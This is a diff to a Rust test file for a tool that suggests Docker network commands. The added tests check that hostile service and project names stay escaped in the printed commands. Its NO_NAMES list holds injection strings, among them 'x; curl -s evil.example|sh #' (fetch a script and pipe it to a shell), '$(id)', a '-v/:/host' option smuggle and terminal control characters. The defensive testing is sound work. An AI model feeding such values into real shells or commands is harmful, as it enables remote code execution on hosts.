@@ -1,14 +1,18 @@
 //! How advice looks.
 
+use std::sync::Arc;
+
 use serde_json::Value;
 
 use super::{
-    scene::{HOUR, Scene, unit},
+    scene::{HOUR, Scene, container, labelled, unit},
     text, web_server,
 };
 use crate::{
     advise::{Advice, show},
     event::Joined,
+    shell::ShellWord,
+    text::is_unsafe,
 };
 
 /// A web server that also uses what listens on the host: one for everyone, one container.
@@ -66,11 +70,8 @@ fn hostile_names_drive_no_terminal() {
     let advice = scene.advice();
     let shown = text(&advice);
     assert!(!shown.contains('\u{1b}'), "{shown:?}");
-    assert!(
-        advice.change.compose.contains("\"\\u001b[2J\\nevil: {x}\""),
-        "{}",
-        advice.change.compose
-    );
+    // No service has such a name.
+    assert!(advice.change.compose.contains("  SERVICE:\n"), "{}", advice.change.compose);
     let mut all = Vec::new();
     let to = anstream::StripStream::new(&mut all);
     show::all(&scene.all(), show::Form::Table, to).unwrap();
@@ -81,6 +82,73 @@ fn hostile_names_drive_no_terminal() {
     assert_eq!(json[0]["label"], "\u{1b}[2J\nevil: {x}");
     assert_eq!(json[0]["verdict"]["answer"], "not-enough-observed");
     assert_eq!(json[0]["ports"][0]["publish"]["publish"], "as");
+}
+
+/// What Docker would not take as a name, and what a shell would make more of than a name.
+const NO_NAMES: [&str; 7] = [
+    "x; curl -s evil.example|sh #",
+    "$(id)",
+    "`id`",
+    "a'b\"c\\d",
+    "-v/:/host",
+    "two\nlines",
+    "n\u{9b}31mR\u{202e}",
+];
+
+/// The words of the commands that are printed are options and their values, and the names
+/// in them are names that Docker takes, whatever an image calls its service and its project.
+#[test]
+fn a_service_that_is_called_like_a_command_is_no_part_of_one() {
+    for hostile in NO_NAMES {
+        let mut scene = Scene::new();
+        let compose =
+            [("com.docker.compose.project", hostile), ("com.docker.compose.service", hostile)];
+        let swarm = [("com.docker.swarm.service.name", hostile)];
+        for (labels, name) in [(&[][..], hostile), (&compose, "web"), (&swarm, "task")] {
+            let acting = labelled(name, "2026-11-28T00:00:01Z", &[], labels);
+            scene.by(Arc::clone(&acting));
+            scene.listen("[::]:8080");
+            scene.accept("10.0.0.2:8080", "10.0.0.9:5000", 20);
+            let other = container(&format!("{hostile}2"), "2026-11-28T00:00:00Z", &[]);
+            scene.connect_to("127.0.0.1:5432", other, "0.0.0.0:5432");
+            let [advice] = scene.called(name).try_into().unwrap();
+            let shown = text(&advice);
+            let change = &advice.change;
+            assert_eq!(change.options(1).0, "--network NETWORK", "{shown}");
+            let commands =
+                "docker network create NETWORK; docker network connect NETWORK CONTAINER";
+            assert!(change.conditions.iter().any(|one| one.ends_with(commands)), "{shown}");
+            assert!(change.compose.contains("      - NETWORK\n"), "{}", change.compose);
+            let commands: Vec<&str> = shown
+                .lines()
+                .map(str::trim)
+                .filter(|line| line.starts_with("--network") || line.starts_with("-p"))
+                .collect();
+            if !matches!(advice.change.command, "docker compose") {
+                assert_eq!(commands.len(), 1, "{shown}");
+                assert!(commands[0].starts_with("--network NETWORK -"), "{shown}");
+            }
+            assert!(!shown.chars().any(|c| c != '\n' && is_unsafe(c)), "{shown:?}");
+        }
+        let mut all = Vec::new();
+        show::all(&scene.all(), show::Form::Table, anstream::StripStream::new(&mut all)).unwrap();
+        let all = String::from_utf8(all).unwrap();
+        assert!(all.contains("--network NETWORK -p 8080:8080"), "{all}");
+    }
+}
+
+#[test]
+fn a_declared_mode_is_one_word_of_a_command() {
+    for hostile in NO_NAMES {
+        let mut scene = web_server();
+        scene.act(Joined { declared: Some(hostile.to_owned()) }, 0);
+        let shown = text(&scene.advice());
+        let line = format!(
+            "  in your docker run command, replace --network {} by",
+            ShellWord::new(hostile)
+        );
+        assert!(shown.lines().any(|one| one == line), "{shown}");
+    }
 }
 
 #[test]
